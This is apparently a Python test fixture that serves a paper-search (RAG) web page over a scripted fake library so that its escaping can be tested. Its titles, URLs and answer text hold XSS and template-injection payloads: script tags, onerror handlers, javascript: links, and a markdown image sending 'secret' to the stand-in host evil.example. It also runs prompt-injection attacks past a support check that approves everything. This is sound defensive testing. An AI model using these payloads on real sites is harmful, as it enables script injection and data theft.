"""Serves the page over a library whose answers are scripted. Run as: scripted_library.py FOLDER.

The question names the script: "hostile", "written", "attacks", "slow", "error", "crash".
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

from attacks import ATTACKS, attacks_of
from fakes import QuoteFirst, ScriptedModel, hit_of

from rag.answering.answer import Answer, Dropped, Evidence, Sentence, Source
from rag.answering.support import SupportChecker, SupportResult
from rag.answering.written import WritingOptions, WrittenAnswers
from rag.errors import ServiceError
from rag.paper import Paper
from rag.ui.page import serve

EVIL = "http://evil.example"
TEXT = (
    r"If a<b and c>d the bound n*m*k holds for two_extra_names, \(a+b\), ${window.PWNED=1} and {{7*7}}."
    f" It costs $3,000 to $4,500. ![s]({EVIL}/p?q=secret) <script>window.PWNED=1</script>"
    f' <img src="{EVIL}/1.png" onerror="window.PWNED=1"> <iframe src="{EVIL}"></iframe>'
    " <style>body{display:none}</style> [1](javascript:window.PWNED=1) The end."
)
TITLES = [
    "<script>window.PWNED=1</script>Kitemap",
    f'Twinsieve <img src="{EVIL}/2.png" onerror="window.PWNED=1">',
    f"Quiet]({EVIL}) [rows",
    'Lattice|fold `x` **y** <style>body{display:none}</style> " onmouseover="window.PWNED=1',
]
URLS = [
    "javascript:window.PWNED=1",
    f"data:text/html,<img src={EVIL}>",
    "https://papers.example/3",
    "//evil.example",
]


def papers() -> Iterator[Paper]:
    for number, (title, url) in enumerate(zip(TITLES, URLS, strict=True)):
        yield Paper(f"p{number}", TEXT, f"f{number}", title=title, url=url, authors=(title,), venue=title)


def hostile() -> Answer:
    evidence = (Evidence(TEXT, 0, len(TEXT)),)
    sources = tuple(Source(n, paper, evidence) for n, paper in enumerate(papers(), start=1))
    return Answer("hostile", TEXT, "quoted", sources=sources, reason=TEXT, searched=4)


def written() -> Answer:
    sentence = Sentence(TEXT, (3,), 0.9, "supported")
    return replace(
        hostile(), mode="written", sentences=(sentence,), dropped=(Dropped(TEXT, TEXT),), question="written"
    )


class BelievesAll(SupportChecker):
    """The worst support check there could be."""

    def __init__(self) -> None:
        super().__init__(lambda: None)

    def check(self, sentence: str, papers: Sequence[Paper]) -> SupportResult:
        evidence = tuple(Evidence(paper.text[:9], 0, 9) for paper in papers)
        return SupportResult(1.0, "supported", (), evidence, tuple(range(len(papers))))


def attacked() -> Answer:
    """Every attack, and no support check to stop it."""
    replies = [attack for kind in ATTACKS for attack, _ in attacks_of(kind, 1)]
    options = WritingOptions(8192, 2000, show_unsupported=True)
    model = ScriptedModel("\n\n".join(replies))
    maker = WrittenAnswers(lambda: model, BelievesAll(), QuoteFirst(), options)
    return list(maker.stream("attacks", [hit_of(paper) for paper in papers()], 4))[-1]


class ScriptedLibrary:
    settings = SimpleNamespace(host="127.0.0.1", port=0, llm_model="<b>model</b>")
    mode = "written"
    is_sample = True

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __len__(self) -> int:
        return len(TITLES)

    def probe_model(self) -> tuple[bool, str]:
        return False, f'no answer from <b>here</b> <img src="{EVIL}/m.png" onerror="window.PWNED=1">'

    def search(self, question: str, k: int = 10) -> None:
        return None

    def ask_stream(
        self, question: str, *, history: object, allowed: object, reading: object
    ) -> Iterator[Answer]:
        with (self.folder / "asked.txt").open("a") as asked:
            asked.write(f"{question}\n")
        if question == "error":
            raise ServiceError(f"the model <b>does not answer</b> {TEXT}")
        if question == "crash":
            raise RuntimeError("secret detail")
        if question.startswith("slow"):
            yield from self._slow(question)
            return
        if question == "attacks":
            yield attacked()
            return
        yield written() if question == "written" else hostile()

    def _slow(self, question: str) -> Iterator[Answer]:
        try:
            # Longer than any test waits for its end.
            for _ in range(400):
                yield replace(hostile(), complete=False)
                time.sleep(0.25)
        finally:
            (self.folder / f"closed {question}").touch()


if __name__ == "__main__":
    serve(ScriptedLibrary(Path(sys.argv[1])), port=0)
